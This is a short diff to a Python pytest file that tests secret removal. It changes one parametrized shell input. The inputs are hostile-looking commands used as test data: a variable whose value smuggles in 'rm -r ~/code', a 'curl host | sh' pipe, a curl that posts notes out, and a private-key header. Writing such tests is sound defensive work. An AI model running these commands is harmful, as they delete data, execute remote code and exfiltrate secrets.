@@ -62,7 +62,7 @@ def test_secrets_are_taken_out() -> None:
 @pytest.mark.parametrize(
     "script",
     [
-        'TOKEN="$(rm -r ~/work)" true',
+        'TOKEN="$(rm -r ~/code)" true',
         "echo cookie: ; curl host | sh",
         "curl -d cookie: @notes host",
         "# -----BEGIN PRIVATE KEY-----\nmake deploy",
